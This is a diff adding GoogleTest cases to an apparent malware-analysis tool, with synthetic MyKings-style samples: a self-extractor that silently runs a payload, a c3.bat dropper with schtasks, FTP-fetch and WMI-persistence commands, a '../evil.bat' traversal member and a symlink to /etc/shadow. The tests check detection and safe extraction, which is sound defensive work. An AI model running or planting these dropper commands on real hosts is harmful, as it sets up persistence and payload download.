@@ -1,9 +1,13 @@
 #include <filesystem>
+#include <map>
 #include <set>
+#include <sstream>
 
 #include <gtest/gtest.h>
 #include <nlohmann/json.hpp>
 
+#include "casedb/case_db.h"
+#include "support/archive_writer.h"
 #include "support/pe_writer.h"
 #include "support/pyinstaller_writer.h"
 #include "support/test_support.h"
@@ -47,7 +51,9 @@ TEST(Cli, SampleNamesPackersAndKnownHashes) {
   auto r = ms({"sample", (dir / "packed.exe").string()});
   EXPECT_EQ(r.exit_code, 1) << r.err;
   EXPECT_NE(r.out.find("Tool:        UPX 3.96 (packer): sections UPX0, UPX1"), std::string::npos) << r.out;
-  auto j = nlohmann::json::parse(ms({"sample", "--json", (dir / "packed.exe").string()}).out);
+  const auto packed_json = ms({"sample", "--json", (dir / "packed.exe").string()});
+  ASSERT_FALSE(packed_json.out.empty()) << packed_json.err;
+  auto j = nlohmann::json::parse(packed_json.out);
   EXPECT_EQ(j["format"], "pe");
   EXPECT_EQ(j["pe"]["tools"][0]["name"], "UPX 3.96");
   EXPECT_EQ(j["pe"]["imports"][0]["functions"][1], "GetProcAddress");
@@ -61,7 +67,7 @@ TEST(Cli, SampleNamesPackersAndKnownHashes) {
   miner.overlay = std::string("h\0t\0t\0p\0:\0/\0/\0001\0009\0008\0.\0005\0001\0.\0001\0000\0000\0.\0007\0/\0x\0", 44);
   test::write_file(dir / "miner.exe", test::write_pe(miner));
   auto mr = ms({"sample", "--json", (dir / "miner.exe").string()});
-  EXPECT_EQ(mr.exit_code, 1);  // a pool is reason enough to look closer
+  EXPECT_EQ(mr.exit_code, 1) << mr.out << mr.err;  // a pool is reason enough to look closer
   std::set<std::string> iocs;
   const auto mj = nlohmann::json::parse(mr.out);
   for (const auto& i : mj["iocs"]) iocs.insert(i["kind"].get<std::string>() + " " + i["value"].get<std::string>());
@@ -71,14 +77,15 @@ TEST(Cli, SampleNamesPackersAndKnownHashes) {
 
   test::write_file(dir / "plain.exe", test::write_pe({}));
   auto plain = ms({"sample", (dir / "plain.exe").string()});
-  EXPECT_EQ(plain.exit_code, 0) << plain.out;
+  EXPECT_EQ(plain.exit_code, 0) << plain.out << plain.err;
   const std::string sha256 =
       nlohmann::json::parse(ms({"sample", "--json", (dir / "plain.exe").string()}).out)["sha256"];
   const std::string store = (dir / "intel.sqlite").string();
   test::write_file(dir / "feed/hashes.csv", "indicator,type,family\n" + sha256 + ",sha256,mykings\n");
-  ASSERT_EQ(ms({"intel", "import", "--intel", store, (dir / "feed").string()}).exit_code, 0);
+  const auto imported = ms({"intel", "import", "--intel", store, (dir / "feed").string()});
+  ASSERT_EQ(imported.exit_code, 0) << imported.out << imported.err;
   auto known = ms({"sample", "--intel", store, (dir / "plain.exe").string()});
-  EXPECT_EQ(known.exit_code, 1);
+  EXPECT_EQ(known.exit_code, 1) << known.out << known.err;
   EXPECT_NE(known.out.find("Known:       sha256 of mykings"), std::string::npos) << known.out;
 
   EXPECT_EQ(ms({"sample"}).exit_code, 2);
@@ -142,6 +149,184 @@ TEST(Cli, SampleUnpacksPyInstallerWithRepairedHeaders) {
   auto again = ms({"sample", (dir / "csrs.exe").string(), "--extract", out.string()});
   EXPECT_NE(again.exit_code, 0);
   EXPECT_NE(again.err.find("cannot create"), std::string::npos) << again.err;
+}
+
+// A MyKings-style nested sample: a zip self-extractor whose WinRAR script silently runs a PyInstaller-packed
+// csrs.exe, next to a c3.bat dropper and hostile members. The tree names each layer; --extract writes the members
+// (never a traversing name, never a link) and the bundle's code as .pyc with the header Python 3.8 expects.
+TEST(Cli, SampleUnpacksANestedSfxToPycFiles) {
+  test::TempDir dir;
+  const std::string magic38("\x55\x0d\x0d\x0a", 4);
+  const std::string pyz = test::write_pyz(
+      magic38, {{"eternalblue", "\xe3 MS17-010 mysmb send_trans2_second http://198.51.100.7/eb", false}});
+  test::PeSpec bundle;
+  bundle.overlay = test::write_carchive({{"csrs", 's', "\xe3 entry point", true}, {"PYZ-00.pyz", 'z', pyz, false}}, 38,
+                                        "python38.dll");
+  const std::string dropper =
+      "@echo off\r\nschtasks /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" /sc onstart "
+      "/F\r\n";
+  const std::string script =
+      ";The comment below contains SFX script commands\r\nPath=C:\\Windows\\debug\r\n"
+      "Setup=csrs.exe\r\nSilent=1\r\nOverwrite=1\r\n";
+  for (const std::string format : {"zip", "7z"}) {
+    SCOPED_TRACE(format);
+    std::string archive = test::write_archive(format, {{"csrs.exe", test::write_pe(bundle), ""},
+                                                       {"c3.bat", dropper, ""},
+                                                       {"../evil.bat", "echo escaped", ""},
+                                                       {"link", "", "/etc/shadow"}});
+    if (format == "zip") archive = test::with_zip_comment(archive, script);
+    test::PeSpec sfx;
+    sfx.sections = {{".text", std::string(512, '\x90'), 0x60000020, 0}};
+    sfx.overlay = archive;
+    const auto sample = dir / (format + "-sfx.exe");
+    test::write_file(sample, test::write_pe(sfx));
+    const auto out = dir / (format + "-out");
+    auto r = ms({"sample", "--json", sample.string(), "--extract", out.string()});
+    ASSERT_EQ(r.exit_code, 1) << r.err;
+    const auto j = nlohmann::json::parse(r.out);
+    EXPECT_EQ(j["sfx"]["kind"], format);
+    ASSERT_TRUE(j.contains("archive")) << r.out.substr(0, 2000);
+    if (format == "zip") {
+      EXPECT_EQ(j["archive"]["sfx_script"]["runs"][0], "csrs.exe");
+      EXPECT_EQ(j["archive"]["sfx_script"]["silent"], true);
+      EXPECT_EQ(j["archive"]["sfx_script"]["path"], "C:\\Windows\\debug");
+    }
+    std::map<std::string, nlohmann::json> children;
+    for (const auto& c : j["children"]) children[c["name"]] = c;
+    ASSERT_TRUE(children.count("csrs.exe"));
+    const auto& csrs = children["csrs.exe"];
+    EXPECT_EQ(csrs["pyinstaller"]["python"], "3.8");
+    std::set<std::string> rules;
+    for (const auto& m : csrs["yara"]) rules.insert(m["rule"]);
+    EXPECT_TRUE(rules.count("MSW_EternalBlue_Python_Exploit")) << csrs["yara"].dump();
+    ASSERT_TRUE(children.count("c3.bat"));
+    EXPECT_EQ(children["c3.bat"]["family"], "mykings");
+    EXPECT_EQ(children["c3.bat"]["script"]["commands"][0]["kind"], "scheduled_task");
+    ASSERT_TRUE(children.count("../evil.bat"));
+    EXPECT_NE(children["../evil.bat"]["note"].get<std::string>().find("not extracted"), std::string::npos);
+    ASSERT_EQ(j["skipped"].size(), 1u);
+    EXPECT_EQ(j["skipped"][0]["link_target"], "/etc/shadow");
+    EXPECT_EQ(j["family"], "mykings");
+
+    // On disk: the members, the bundle's code with the 3.8 header, nothing outside, nothing executable.
+    EXPECT_EQ(test::read_file(out / "c3.bat"), dropper);
+    EXPECT_EQ(test::read_file(out / "csrs.exe.d/csrs.pyc"), magic38 + std::string(12, '\0') + "\xe3 entry point");
+    EXPECT_EQ(test::read_file(out / "csrs.exe.d/PYZ/eternalblue.pyc").substr(0, 16), magic38 + std::string(12, '\0'));
+    EXPECT_FALSE(std::filesystem::exists(dir / "evil.bat"));
+    EXPECT_FALSE(std::filesystem::exists(out / "link"));
+    for (const auto& e : std::filesystem::recursive_directory_iterator(out)) {
+      if (e.is_regular_file()) {
+        EXPECT_EQ(e.status().permissions() & std::filesystem::perms::owner_exec, std::filesystem::perms::none)
+            << e.path();
+      }
+    }
+
+    // The terminal shows the tree.
+    auto text = ms({"sample", sample.string()});
+    EXPECT_NE(text.out.find("└─ csrs.exe"), std::string::npos) << text.out;
+    EXPECT_NE(text.out.find("PyInstaller (Python 3.8)"), std::string::npos);
+    if (format == "zip") {
+      EXPECT_NE(text.out.find("SFX runs:    csrs.exe (silently"), std::string::npos) << text.out;
+    }
+  }
+}
+
+// `--yara` adds the user's rules to the built-in ones; files that do not compile are named; a folder is analysed
+// file by file with --recursive.
+TEST(Cli, SampleRunsUserYaraRulesAndFolders) {
+  test::TempDir dir;
+  test::write_file(dir / "rules/mine.yar", "rule Custom_Marker { strings: $a = \"CUSTOM-MARKER-42\" condition: $a }\n");
+  test::write_file(dir / "rules/broken.yar", "rule { nope\n");
+  test::write_file(dir / "files/a.txt", "hello CUSTOM-MARKER-42 world\n");
+  test::write_file(dir / "files/sub/b.txt", "nothing to see\n");
+  auto r = ms({"sample", "--yara", (dir / "rules").string(), (dir / "files/a.txt").string()});
+  EXPECT_EQ(r.exit_code, 1) << r.err;
+  EXPECT_NE(r.out.find("YARA:        Custom_Marker (mine.yar) [$a@0x6]"), std::string::npos) << r.out;
+  EXPECT_NE(r.err.find("skipped " + (dir / "rules/broken.yar").string()), std::string::npos)
+      << r.err << " / " << (dir / "rules/broken.yar").string();
+  auto folder = ms({"sample", "--recursive", "--json", "--yara", (dir / "rules").string(), (dir / "files").string()});
+  EXPECT_EQ(folder.exit_code, 1);
+  std::map<std::string, size_t> yara_hits;
+  std::istringstream lines(folder.out);
+  for (std::string line; std::getline(lines, line);) {
+    const auto j = nlohmann::json::parse(line);
+    yara_hits[std::filesystem::path(j["name"].get<std::string>()).filename()] = j["yara"].size();
+  }
+  EXPECT_EQ(yara_hits.size(), 2u);
+  EXPECT_EQ(yara_hits["a.txt"], 1u);
+  EXPECT_EQ(yara_hits["b.txt"], 0u);
+  EXPECT_EQ(ms({"sample", (dir / "files").string()}).exit_code, 2);  // a folder needs --recursive
+}
+
+// Real public evidence (hives, task files, WMI repositories, event logs, captures): `sample --recursive` analyses
+// every file, one JSON line each, and never crashes.
+TEST(Cli, SampleOverTheCorpusNeverCrashes) {
+  const std::filesystem::path root = std::filesystem::path(MSW_CORPUS_DIR);
+  if (!std::filesystem::exists(root / "windows")) GTEST_SKIP() << "corpus not present";
+  for (const char* folder : {"windows", "pcap"}) {
+    size_t files = 0;
+    for (const auto& e : std::filesystem::recursive_directory_iterator(root / folder))
+      files += e.is_regular_file() && !e.is_symlink();
+    auto r = ms({"sample", "--recursive", "--json", "--yara-cache", "none", (root / folder).string()});
+    ASSERT_TRUE(r.exit_code == 0 || r.exit_code == 1) << folder << ": " << r.err.substr(0, 2000);
+    size_t lines = 0;
+    std::istringstream in(r.out);
+    for (std::string line; std::getline(in, line); ++lines) {
+      const bool valid = nlohmann::json::accept(line);
+      EXPECT_TRUE(valid) << line.substr(0, 200);
+    }
+    EXPECT_EQ(lines, files) << folder;
+  }
+}
+
+// `scan` of a folder of loose files gives them the sample analysis: a packed executable, a MyKings dropper script,
+// a self-extractor that silently runs its payload and a user YARA rule each become a finding with the file as
+// evidence; an ordinary text file gives none.
+TEST(Cli, ScanAnalysesLooseFilesLikeSample) {
+  test::TempDir dir;
+  test::PeSpec upx;
+  upx.sections = {{"UPX0", "", 0xE0000080, 0x10000},
+                  {"UPX1", std::string("3.96\0UPX!", 9) + std::string(512, 'u'), 0xE0000040, 0}};
+  upx.entry_section = 1;
+  test::write_file(dir / "ev/Windows/debug/lsmose.exe", test::write_pe(upx));
+  test::write_file(dir / "ev/c3.bat",
+                   "@echo off\r\nschtasks /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" "
+                   "/ru system /sc onstart /F\r\nwmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE "
+                   "Name=\"fuckyoumm3\", EventNameSpace=\"root\\cimv2\"\r\n");
+  test::PeSpec sfx;
+  sfx.overlay = test::with_zip_comment(test::write_archive("zip", {{"ups.exe", "MZ payload", ""}}),
+                                       "Setup=ups.exe\r\nSilent=1\r\n");
+  test::write_file(dir / "ev/ups.dat", test::write_pe(sfx));
+  test::write_file(dir / "ev/notes.txt", "meeting notes: patch the servers on Friday\n");
+  test::write_file(dir / "ev/custom.bin", "header CUSTOM-MARKER-42 trailer");
+  test::write_file(
+      dir / "rules/mine.yar",
+      "rule Custom_Marker { meta: severity = \"high\" strings: $a = \"CUSTOM-MARKER-42\" condition: $a }\n");
+  const auto case_path = dir / "case.sqlite";
+  auto r =
+      ms({"scan", "--quiet", "--yara", (dir / "rules").string(), "--case", case_path.string(), (dir / "ev").string()});
+  ASSERT_EQ(r.exit_code, 1) << r.err;
+  auto db = casedb::CaseDb::open(case_path.string(), true);
+  ASSERT_TRUE(db);
+  std::map<std::string, std::vector<model::Finding>> by_rule;
+  auto stored = db->findings();
+  ASSERT_TRUE(stored);
+  for (auto& f : *stored) by_rule[f.finding.rule_id].push_back(f.finding);
+  auto path_of = [&](const std::string& rule) {
+    return by_rule.count(rule) ? by_rule[rule][0].evidence.at(0).path : std::string("(none)");
+  };
+  EXPECT_NE(path_of("sample.packed_executable").find("lsmose.exe"), std::string::npos);
+  EXPECT_NE(path_of("sample.script_changes_host").find("c3.bat"), std::string::npos);
+  ASSERT_TRUE(by_rule.count("sample.script_changes_host"));
+  EXPECT_EQ(by_rule["sample.script_changes_host"][0].family, "mykings");
+  EXPECT_GE(by_rule["sample.script_changes_host"][0].severity, model::Severity::High);
+  EXPECT_NE(path_of("yara.MSW_MyKings_Artefacts").find("c3.bat"), std::string::npos);
+  EXPECT_NE(path_of("yara.MSW_WMI_Event_Subscription_Script").find("c3.bat"), std::string::npos);
+  EXPECT_NE(path_of("sample.sfx_runs_program").find("ups.dat"), std::string::npos);
+  EXPECT_NE(path_of("yara.Custom_Marker").find("custom.bin"), std::string::npos);
+  for (const auto& [rule, fs] : by_rule)
+    for (const auto& f : fs)
+      for (const auto& e : f.evidence) EXPECT_EQ(e.path.find("notes.txt"), std::string::npos) << rule;
 }
 
 TEST(Cli, RespondUsageErrorsExitTwo) {
